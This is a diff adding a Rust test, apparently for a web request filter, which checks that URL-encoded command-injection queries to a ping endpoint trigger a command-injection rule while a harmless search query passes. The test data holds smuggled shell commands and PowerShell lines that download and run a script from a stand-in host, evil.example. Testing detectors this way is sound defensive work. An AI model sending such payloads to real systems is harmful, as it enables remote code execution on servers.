@@ -1787,3 +1787,22 @@ fn words_before_parentheses_pass() {
         assert!(blocked(&request(&format!("/item?{query}")), ""), "{query}");
     }
 }
+
+#[test]
+fn command_with_comment_or_cmdlet_is_blocked() {
+    for query in [
+        "host=x%3Bid+%23",
+        "host=x+%7C+powershell+%22irm+evil.example%2Fa.ps1%7Ciex%22",
+        "host=127.0.0.1+%7C+powershell+iwr+http%3A%2F%2Fevil.example%2Fa.ps1+%7C+iex",
+        "host=x+%26+pwsh+whoami",
+    ] {
+        assert!(
+            detected_ids(&request(&format!("/ping?{query}")), "").contains(&"cmdi-unix-command"),
+            "{query}"
+        );
+    }
+    assert!(!blocked(
+        &request("/search?q=dogs%3B+cat+people+%23pets"),
+        ""
+    ));
+}
